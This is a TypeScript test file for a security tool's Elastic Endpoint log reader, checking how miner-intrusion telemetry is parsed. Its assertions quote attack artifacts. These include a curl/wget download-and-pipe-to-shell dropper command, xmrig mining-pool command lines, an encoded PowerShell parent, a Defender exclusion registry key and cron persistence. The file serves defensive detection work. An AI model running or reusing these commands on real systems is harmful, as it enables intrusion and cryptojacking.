@@ -1,0 +1,505 @@
+import assert from 'node:assert/strict';
+import { readdirSync, readFileSync, statSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { test } from 'node:test';
+import type { CoalEvent } from '../model/event.js';
+import { cutLineCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from './contract.js';
+import { elasticEndpoint } from './elastic-endpoint.js';
+import { sniffSource } from './index.js';
+import { ndjson } from './ndjson.js';
+import type { SourceInput } from './types.js';
+import { winlogbeat } from './winlogbeat.js';
+
+const DIR = 'test/fixtures/elastic-endpoint';
+const WINDOWS = `${DIR}/windows-miner/endpoint.ndjson`;
+const LINUX = `${DIR}/linux-miner/endpoint.ndjson`;
+const PUBLIC = 'test/fixtures/public/elastic-endpoint';
+const good = fileInput(WINDOWS);
+const bad = fileInput(`${DIR}/bad.ndjson`);
+
+runSourceContract({
+  source: elasticEndpoint,
+  good,
+  bad,
+  // the export copied while the miner's start was written: it ends inside its command line
+  cut: cutLineCase(
+    good,
+    6,
+    '"command_line":"\\"C:\\\\Users\\\\jdoe\\\\AppData\\\\Roaming\\\\WinSvc\\\\winupdsvc.exe\\" -o ',
+    'stratum+tcp://pool.cutoff-example.net:3',
+  ),
+});
+
+async function countsOf(input: SourceInput): Promise<{ events: number; issues: number; unused: number }> {
+  const out = { events: 0, issues: 0, unused: 0 };
+  for await (const batch of elasticEndpoint.read(input, TEST_CONTEXT)) {
+    out.events += batch.events.length;
+    out.issues += batch.issues.length;
+    out.unused += batch.unused ?? 0;
+  }
+  return out;
+}
+
+/** What an event says, without where it was read from: the same story in another shape says the same. */
+function meaning(e: CoalEvent): string {
+  const { original: _original, coalmine, ...rest } = e;
+  return JSON.stringify({ ...rest, ts: coalmine.ts, format: coalmine.format });
+}
+
+test('the Windows story: process starts, connections, DNS, file, registry and driver load map to their verbs in time order', async () => {
+  const { events } = await readAll(elasticEndpoint, good);
+  assert.deepEqual(
+    events.map((e) => [e.coalmine.ref.line, e.event.action, e.event.dataset]),
+    [
+      [1, 'exec', 'elastic-endpoint.endpoint.events.process'],
+      [2, 'connect', 'elastic-endpoint.endpoint.events.network'],
+      [3, 'file-write', 'elastic-endpoint.endpoint.events.file'],
+      [4, 'exec', 'elastic-endpoint.endpoint.events.process'],
+      [5, 'registry-set', 'elastic-endpoint.endpoint.events.registry'],
+      [6, 'exec', 'elastic-endpoint.endpoint.events.process'],
+      [7, 'exec', 'elastic-endpoint.endpoint.events.process'],
+      [9, 'driver-load', 'elastic-endpoint.endpoint.events.library'],
+      [10, 'dns-query', 'elastic-endpoint.endpoint.events.network'],
+      [11, 'dns-query', 'elastic-endpoint.endpoint.events.network'],
+      [12, 'connect', 'elastic-endpoint.endpoint.events.network'],
+      [13, 'exec', 'elastic-endpoint.endpoint.events.process'],
+      [14, 'file-write', 'elastic-endpoint.endpoint.events.file'],
+    ],
+  );
+  // a DLL load (line 8) and a disconnect (line 15) are read whole and used by nothing
+  assert.equal((await countsOf(good)).unused, 2);
+});
+
+test('a Windows process start: entity ids for lineage, command line, args, hash, PE name, user as DOMAIN\\name', async () => {
+  const { events } = await readAll(elasticEndpoint, good);
+  const miner = events.find((e) => e.process?.pid === 6120 && e.event.action === 'exec');
+  assert.ok(miner);
+  assert.equal(miner['@timestamp'], '2026-11-30T09:00:12.000Z');
+  assert.deepEqual(miner.host, {
+    name: 'WS-FIN-07',
+    id: '61a6e29e2451de1bc1e9df29ce33d173',
+    ip: ['10.20.4.17'],
+    os: { platform: 'windows' },
+  });
+  assert.deepEqual(miner.user, { name: 'WS-FIN-07\\jdoe', id: 'S-1-5-21-1004336348-1177238915-682003330-1104' });
+  const p = miner.process;
+  assert.equal(p?.executable, 'C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc\\winupdsvc.exe');
+  assert.equal(p?.name, 'winupdsvc.exe');
+  assert.match(
+    p?.command_line ?? '',
+    /^"C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc\\winupdsvc\.exe" -o stratum\+tcp:\/\/pool\.supportxmr\.com:3333 /,
+  );
+  assert.equal(p?.args?.length, 14);
+  assert.deepEqual(p?.hash, { sha256: '3f6a1f3c0b9f4d6c2f1b7e8a9d0c5b4a3e2f1d0c9b8a7f6e5d4c3b2a1f0e9d8c' });
+  assert.deepEqual(p?.pe, { original_file_name: 'xmrig.exe' });
+  assert.equal(p?.working_directory, 'C:\\Users\\jdoe\\');
+  const cradle = events[0].process;
+  assert.equal(p?.parent?.entity_id, cradle?.entity_id);
+  assert.equal(p?.parent?.pid, 5880);
+  assert.equal(p?.parent?.name, 'powershell.exe');
+  assert.match(p?.parent?.command_line ?? '', / -Enc SQBFAFgA/);
+  assert.match(p?.entity_id ?? '', /^[A-Za-z0-9+/=]{20,}$/);
+});
+
+test('connections, DNS answers, file writes, registry values and drivers carry what the classifiers read', async () => {
+  const { events } = await readAll(elasticEndpoint, good);
+  const byLine = (line: number) => events.find((e) => e.coalmine.ref.line === line);
+  const pool = byLine(12);
+  assert.deepEqual(pool?.destination, { ip: '198.51.100.7', port: 3333 });
+  assert.deepEqual(pool?.source, { ip: '10.20.4.17', port: 50233 });
+  assert.deepEqual(pool?.network, { direction: 'outbound', transport: 'tcp' });
+  assert.equal(pool?.process?.pid, 6120);
+  assert.deepEqual(byLine(11)?.dns, { question: { name: 'pool.supportxmr.com' }, resolved_ip: ['198.51.100.7'] });
+  assert.deepEqual(byLine(10)?.dns, { question: { name: 'pool.supportxmr.com' } });
+  assert.deepEqual(byLine(3)?.file, {
+    path: 'C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc\\winupdsvc.exe',
+    name: 'winupdsvc.exe',
+  });
+  assert.deepEqual(byLine(5)?.registry, {
+    path: 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc',
+    value: 'C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc',
+    data: '0',
+  });
+  const driver = byLine(9);
+  assert.deepEqual(driver?.file, {
+    path: 'C:\\Users\\jdoe\\AppData\\Roaming\\WinSvc\\WinRing0x64.sys',
+    name: 'WinRing0x64.sys',
+    hash: { sha256: '11bd2c9f8e3397c9a16e0990e4ed2cf0679498fe0fd418a3dfdac60b5c160ee5' },
+    signed: true,
+    signature: 'Noriyuki MIYAZAKI',
+  });
+  // the kernel loads every driver: like Sysmon 6, no process
+  assert.equal(driver?.process, undefined);
+  assert.equal(driver?.original._index, '.ds-logs-endpoint.events.library-default-2026.11.30-000001');
+  assert.equal(driver?.original['dll.code_signature.status'], 'errorExpired');
+});
+
+test('the Linux story: exec with args joined, entity lineage, numeric ids; a fork is read and unused', async () => {
+  const input = fileInput(LINUX);
+  const { events, issues } = await readAll(elasticEndpoint, input);
+  assert.deepEqual(issues, []);
+  assert.equal((await countsOf(input)).unused, 1);
+  const miner = events.find((e) => e.process?.pid === 4130);
+  assert.equal(miner?.host?.name, 'web-01');
+  assert.equal(miner?.host?.os?.platform, 'linux');
+  assert.equal(
+    miner?.process?.command_line?.startsWith('/tmp/kdevtmpfsi -B -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFF'),
+    true,
+  );
+  assert.deepEqual(miner?.user, { name: 'redis', id: '999' });
+  const shell = events.find((e) => e.process?.pid === 4103);
+  assert.equal(miner?.process?.parent?.entity_id, shell?.process?.entity_id);
+  const dropper = events.find((e) => e.process?.pid === 4101);
+  assert.equal(
+    dropper?.process?.command_line,
+    'sh -c (curl -fsSL http://203.0.113.47/d.sh || wget -q -O - http://203.0.113.47/d.sh) | sh',
+  );
+  assert.equal(dropper?.process?.parent?.name, 'redis-server');
+  const cron = events.find((e) => e.event.action === 'file-write' && e.process?.pid === 4115);
+  assert.equal(cron?.file?.path, '/var/spool/cron/crontabs/redis');
+});
+
+test('every shape an export comes in gives the same events: _search responses (pretty, compact), a hits array, flattened keys', async () => {
+  const want = (await readAll(elasticEndpoint, good)).events.map(meaning);
+  for (const name of ['search-response.json', 'search-response-compact.json', 'hits-array.json', 'flattened.ndjson']) {
+    const input = fileInput(`${DIR}/shapes/${name}`);
+    assert.equal(sniffSource(input)?.name, 'elastic-endpoint', name);
+    const { events, issues } = await readAll(elasticEndpoint, input);
+    assert.deepEqual(issues, [], name);
+    // the flattened export has no _index, so its dataset comes from data_stream.dataset: the events say the same
+    const got = events.map((e) => JSON.parse(meaning(e)) as Record<string, unknown>);
+    assert.deepEqual(
+      got.map((e) => JSON.stringify(e)),
+      want,
+      name,
+    );
+  }
+});
+
+test('a _search response newest first is given oldest first; a response cut short or timed out is reported', async () => {
+  const { events } = await readAll(elasticEndpoint, fileInput(`${DIR}/shapes/search-response.json`));
+  const times = events.map((e) => e.coalmine.ts);
+  assert.deepEqual(
+    times,
+    [...times].sort((a, b) => a - b),
+  );
+  const hit = readFileSync(WINDOWS, 'utf8').split('\n')[0];
+  const partial = `{"took":5,"timed_out":true,"_shards":{"total":2,"successful":1,"failed":1},"hits":{"hits":[${hit}]}}\n`;
+  const r = await readAll(elasticEndpoint, memoryInput('partial.json', partial));
+  assert.equal(r.events.length, 1);
+  assert.deepEqual(
+    r.issues.map((i) => [i.line, i.code]),
+    [[1, 'ELASTIC_ENDPOINT_PARTIAL_RESPONSE']],
+  );
+  const cut = readFileSync(`${DIR}/shapes/search-response.json`, 'utf8');
+  const t = await readAll(elasticEndpoint, memoryInput('cut.json', cut.slice(0, Math.floor(cut.length / 2))));
+  assert.equal(t.events.length, 0);
+  assert.deepEqual(
+    t.issues.map((i) => i.code),
+    ['ELASTIC_ENDPOINT_TRUNCATED'],
+  );
+  const empty = await countsOf(
+    memoryInput('empty.json', '{"took":1,"timed_out":false,"hits":{"total":{"value":0},"hits":[]}}\n'),
+  );
+  assert.deepEqual(empty, { events: 0, issues: 0, unused: 1 });
+});
+
+test('every bad record is an issue naming its line and why, and reading goes on', async () => {
+  const { events, issues } = await readAll(elasticEndpoint, bad);
+  assert.deepEqual(
+    issues.map((i) => [i.line, i.code, i.reason]),
+    [
+      [2, 'ELASTIC_ENDPOINT_BAD_RECORD', 'a hit without a _source object (stored fields alone are not read)'],
+      [3, 'ELASTIC_ENDPOINT_BAD_RECORD', '@timestamp "yesterday" is not a time'],
+      [4, 'ELASTIC_ENDPOINT_BAD_RECORD', '@timestamp is missing'],
+      [5, 'ELASTIC_ENDPOINT_BAD_RECORD', 'process exec without process.pid or process.entity_id'],
+      [6, 'ELASTIC_ENDPOINT_BAD_RECORD', 'connection without destination.ip'],
+      [7, 'ELASTIC_ENDPOINT_BAD_RECORD', 'DNS lookup without dns.question.name'],
+      [8, 'ELASTIC_ENDPOINT_BAD_RECORD', 'file event without file.path'],
+      [9, 'ELASTIC_ENDPOINT_BAD_JSON', `Unexpected token 'h', "this is not JSON {" is not valid JSON`],
+      [10, 'ELASTIC_ENDPOINT_BAD_RECORD', 'an array where a document belongs'],
+      [
+        11,
+        'ELASTIC_ENDPOINT_BAD_RECORD',
+        'hits.hits[0]: a hit without a _source object (stored fields alone are not read)',
+      ],
+    ],
+  );
+  assert.deepEqual(
+    events.map((e) => e.coalmine.ref.line),
+    [1, 12, 13],
+  );
+  // hostile values are bounded, a number where a path belongs is no path, control characters are kept for the sinks to show
+  const hostile = events[1].process;
+  assert.equal(hostile?.executable, undefined);
+  assert.ok((hostile?.command_line?.length ?? 0) < 33 * 1024);
+  assert.ok(hostile?.command_line?.includes('\u001b[2J\u202e'));
+});
+
+test('fuzz: mutated and truncated records never throw, and every line is an event, unused or an issue', async () => {
+  const lines = [...good.head.toString('utf8').split('\n'), ...readFileSync(LINUX, 'utf8').split('\n')].filter(
+    (l) => l !== '',
+  );
+  let seed = 4242;
+  const rand = (n: number) => {
+    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
+    return seed % n;
+  };
+  const junk = ['', 'null', '"', '{', '}', '[]', '-1', '1e999', '"\\u0000"', '{"a":1}', 'true', '["x"]'];
+  for (let round = 0; round < 150; round++) {
+    const out: string[] = [];
+    for (const line of lines) {
+      const r = rand(4);
+      // the first line keeps its opening brace: a file's shape is decided there
+      if (r === 0) out.push(line.slice(0, 1 + rand(line.length)));
+      else if (r === 1) {
+        const at = 1 + rand(line.length - 1);
+        out.push(`${line.slice(0, at)}${junk[rand(junk.length)]}${line.slice(at + rand(20))}`);
+      } else if (r === 2)
+        out.push(
+          line.replace(
+            /"(pid|@timestamp|entity_id|executable|args|action|category|process|destination|dns|file|registry|dll|_source|host)":/g,
+            () => `"${['pid', 'action', 'process', '_source', 'event'][rand(5)]}":${junk[rand(junk.length)]},"_":`,
+          ),
+        );
+      else out.push(line);
+    }
+    const records = out.filter((l) => l.trim() !== '').length;
+    const counts = await countsOf(memoryInput(`fuzz-${round}.ndjson`, `${out.join('\n')}\n`));
+    assert.equal(counts.events + counts.issues + counts.unused, records, `round ${round}`);
+  }
+});
+
+/** Every file under test/fixtures, with its path. */
+function fixtureFiles(dir: string, out: string[] = []): string[] {
+  for (const name of readdirSync(dir).sort()) {
+    const path = join(dir, name);
+    if (statSync(path).isDirectory()) fixtureFiles(path, out);
+    else out.push(path);
+  }
+  return out;
+}
+
+function headOf(path: string): SourceInput {
+  const buf = readFileSync(path);
+  return {
+    name: path,
+    relPath: relative('test/fixtures', path),
+    head: buf.subarray(0, 64 * 1024),
+    open: async function* () {},
+  };
+}
+
+test("no other format's fixture sniffs as elastic-endpoint, and every one of ours does", () => {
+  const ours = (p: string) => p.startsWith(`${DIR}/`) || p.startsWith(`${PUBLIC}/`);
+  const claimed: string[] = [];
+  let others = 0;
+  for (const path of fixtureFiles('test/fixtures')) {
+    if (ours(path)) continue;
+    others++;
+    const input = headOf(path);
+    if (elasticEndpoint.sniff(input.head.toString('utf8'), input) > 0) claimed.push(path);
+  }
+  assert.ok(others > 200, `only ${others} other fixtures found`);
+  assert.deepEqual(claimed, []);
+  for (const path of fixtureFiles(DIR).concat(fixtureFiles(PUBLIC))) {
+    if (path.endsWith('.csv') || path.endsWith('.md')) continue;
+    assert.equal(sniffSource(headOf(path))?.name, 'elastic-endpoint', path);
+  }
+});
+
+test('ECS neighbours keep their files: coalmine NDJSON and Winlogbeat lines are theirs, bare Elastic documents ours', () => {
+  const ndjsonFixture = headOf('test/fixtures/ndjson/good.ndjson');
+  const winlogFixture = headOf('test/fixtures/winlogbeat/good.ndjson');
+  assert.equal(sniffSource(ndjsonFixture)?.name, 'ndjson');
+  assert.equal(sniffSource(winlogFixture)?.name, 'winlogbeat');
+  const bare = headOf(LINUX);
+  const text = bare.head.toString('utf8');
+  // coalmine's own reader would take an ECS line with an action: the endpoint's marks outbid it
+  assert.ok(ndjson.sniff(text, bare) > 0);
+  assert.ok(elasticEndpoint.sniff(text, bare) > ndjson.sniff(text, bare));
+  assert.equal(winlogbeat.sniff(text, bare), 0);
+  assert.equal(elasticEndpoint.sniff('{"@timestamp":"2026-12-01T10:00:00Z","event":{"action":"exec"}}\n', bare), 0);
+});
+
+test("a Windows event log document in a hit (Elastic Agent's Windows and System integrations) goes through the Winlogbeat mapping", async () => {
+  const lines = readFileSync('test/fixtures/winlogbeat/good.ndjson', 'utf8')
+    .split('\n')
+    .filter((l) => l !== '');
+  const hits = lines.map((l, i) =>
+    JSON.stringify({
+      _index: '.ds-logs-windows.sysmon_operational-default-2026.11.30-000001',
+      _id: `w${i}`,
+      _source: JSON.parse(l),
+    }),
+  );
+  const input = memoryInput('winlog-hits.ndjson', `${hits.join('\n')}\n`);
+  assert.equal(sniffSource(input)?.name, 'elastic-endpoint');
+  const ours = await readAll(elasticEndpoint, input);
+  const theirs = await readAll(winlogbeat, fileInput('test/fixtures/winlogbeat/good.ndjson'));
+  assert.ok(ours.events.length > 0);
+  assert.deepEqual(
+    ours.issues,
+    theirs.issues.map((i) => ({ ...i, file: input.name })),
+  );
+  const strip = (e: CoalEvent) => ({
+    ...JSON.parse(meaning(e)),
+    format: undefined,
+    event: { ...e.event, dataset: e.event.dataset.split('.').slice(1).join('.') },
+  });
+  // ours are given in time order, as every reader of exports that may be newest first does
+  const inOrder = (events: CoalEvent[]) =>
+    [...events].sort(
+      (a, b) => a.coalmine.ts - b.coalmine.ts || (a.coalmine.ref.line ?? 0) - (b.coalmine.ref.line ?? 0),
+    );
+  assert.deepEqual(ours.events.map(strip), inOrder(theirs.events).map(strip));
+});
+
+test('Elastic Agent: auditd_manager executions and connections by pid, System process and host CPU as metric samples', async () => {
+  const agent = { type: 'auditbeat', version: '8.17.0' };
+  const host = { name: 'web-07', os: { type: 'linux', family: 'debian' } };
+  const docs = [
+    {
+      '@timestamp': '2026-12-01T10:00:00.000Z',
+      agent,
+      data_stream: { dataset: 'auditd_manager.auditd' },
+      event: { module: 'auditd', category: ['process'], type: ['start'], action: 'executed', outcome: 'success' },
+      host,
+      process: {
+        pid: 900,
+        parent: { pid: 1 },
+        executable: '/dev/shm/.x/xmrig',
+        args: ['/dev/shm/.x/xmrig', '-o', 'pool.minexmr.com:443'],
+        title: '/dev/shm/.x/xmrig -o pool.minexmr.com:443',
+        working_directory: '/dev/shm/.x',
+      },
+      user: { id: '0', name: 'root' },
+    },
+    {
+      '@timestamp': '2026-12-01T10:00:01.000Z',
+      agent,
+      data_stream: { dataset: 'auditd_manager.auditd' },
+      event: { module: 'auditd', category: ['network'], type: ['connection', 'start'], action: 'connected-to' },
+      host,
+      process: { pid: 900, executable: '/dev/shm/.x/xmrig' },
+      destination: { ip: '198.51.100.9', port: 443 },
+      network: { direction: 'egress' },
+    },
+    {
+      '@timestamp': '2026-12-01T10:01:00.000Z',
+      agent: { type: 'metricbeat' },
+      data_stream: { dataset: 'system.process', type: 'metrics' },
+      event: { module: 'system', dataset: 'system.process' },
+      metricset: { name: 'process' },
+      host,
+      process: {
+        pid: 900,
+        name: 'xmrig',
+        executable: '/dev/shm/.x/xmrig',
+        args: ['/dev/shm/.x/xmrig', '-o', 'pool.minexmr.com:443'],
+      },
+      system: {
+        process: {
+          cpu: { total: { pct: 3.92, norm: { pct: 0.98 } } },
+          memory: { rss: { bytes: 2404352, pct: 0.0012 } },
+        },
+      },
+      user: { name: 'root' },
+    },
+    {
+      '@timestamp': '2026-12-01T10:01:00.000Z',
+      data_stream: { dataset: 'system.cpu', type: 'metrics' },
+      event: { module: 'system', dataset: 'system.cpu' },
+      metricset: { name: 'cpu' },
+      host,
+      system: { cpu: { cores: 4, total: { pct: 3.96, norm: { pct: 0.99 } } } },
+    },
+    {
+      '@timestamp': '2026-12-01T10:01:00.000Z',
+      data_stream: { dataset: 'system.process', type: 'metrics' },
+      event: { module: 'system', dataset: 'system.process' },
+      host,
+      process: { pid: 901, name: 'sshd' },
+    },
+  ];
+  const input = memoryInput('agent.ndjson', `${docs.map((d) => JSON.stringify(d)).join('\n')}\n`);
+  assert.equal(sniffSource(input)?.name, 'elastic-endpoint');
+  const { events, issues } = await readAll(elasticEndpoint, input);
+  assert.deepEqual(
+    events.map((e) => [e.event.action, e.process?.pid, e.process?.parent?.pid, e.metrics]),
+    [
+      ['exec', 900, 1, undefined],
+      ['connect', 900, undefined, undefined],
+      ['metric', 900, undefined, { cpu_pct: 392, rss_bytes: 2404352, mem_pct: 0.12 }],
+      ['metric', undefined, undefined, { cpu_pct: 99, cores: 4 }],
+    ],
+  );
+  assert.equal(events[0].process?.command_line, '/dev/shm/.x/xmrig -o pool.minexmr.com:443');
+  assert.deepEqual(events[1].network, { direction: 'outbound' });
+  assert.deepEqual(events[2].event, {
+    kind: 'metric',
+    category: ['process'],
+    action: 'metric',
+    dataset: 'elastic-endpoint.system.process',
+  });
+  assert.deepEqual(
+    issues.map((i) => [i.line, i.reason]),
+    [[5, 'system.process sample without system.process.cpu.total.pct']],
+  );
+});
+
+test('ECS written flat or with one-element arrays reads as nested ECS does', async () => {
+  const doc = {
+    '@timestamp': '2026-12-01T10:00:00Z',
+    'agent.type': 'endpoint',
+    'event.category': 'process',
+    'event.action': ['exec'],
+    'event.type': ['start'],
+    'host.name': 'web-09',
+    'host.os.type': 'linux',
+    process: {
+      'parent.pid': 1,
+      pid: 77,
+      'entity.id.not': 'x',
+      entity_id: 'e77',
+      executable: '/usr/bin/id',
+      args: ['id', '-u'],
+    },
+  };
+  const input = memoryInput('flat.ndjson', `${JSON.stringify(doc)}\n`);
+  assert.equal(sniffSource(input)?.name, 'elastic-endpoint');
+  const { events, issues } = await readAll(elasticEndpoint, input);
+  assert.deepEqual(issues, []);
+  assert.deepEqual(
+    [
+      events[0].event.action,
+      events[0].process?.pid,
+      events[0].process?.entity_id,
+      events[0].process?.parent?.pid,
+      events[0].process?.command_line,
+      events[0].host,
+    ],
+    ['exec', 77, 'e77', 1, 'id -u', { name: 'web-09', os: { platform: 'linux' } }],
+  );
+});
+
+test('the public sample (ECS RFC 0030, a real Elastic Endpoint exec hit) reads without issues', async () => {
+  const input = fileInput(`${PUBLIC}/ecs-rfc0030-linux-exec-hit.json`);
+  const { events, issues } = await readAll(elasticEndpoint, input);
+  assert.deepEqual(issues, []);
+  assert.equal(events.length, 1);
+  const e = events[0];
+  assert.equal(e['@timestamp'], '2022-02-16T23:49:50.502Z');
+  assert.equal(e.event.action, 'exec');
+  assert.deepEqual(e.host?.os, { platform: 'linux' });
+  assert.equal(e.host?.name, 'ubuntu-impish');
+  assert.deepEqual(e.host?.ip, ['127.0.0.1', '::1', '10.0.2.15', 'fe80::b6:64ff:fef1:a5f0']);
+  assert.deepEqual(e.user, { name: 'vagrant', id: '1000' });
+  assert.equal(e.process?.command_line, 'ls --color=auto -la');
+  assert.equal(
+    e.process?.parent?.entity_id,
+    'MDEwMTAxMDEtMDEwMS0wMTAxLTAxMDEtMDEwMTAxMDEwMTAxLTEyNjI3LTEzMjg5NTI4OTg2Ljc5NTkxODAwMA==',
+  );
+  assert.equal(e.process?.start, '2022-02-16T23:27:52.810Z');
+  assert.equal(e.original._id, 'BuvxBH8BU45FNSRmRWIK');
+});
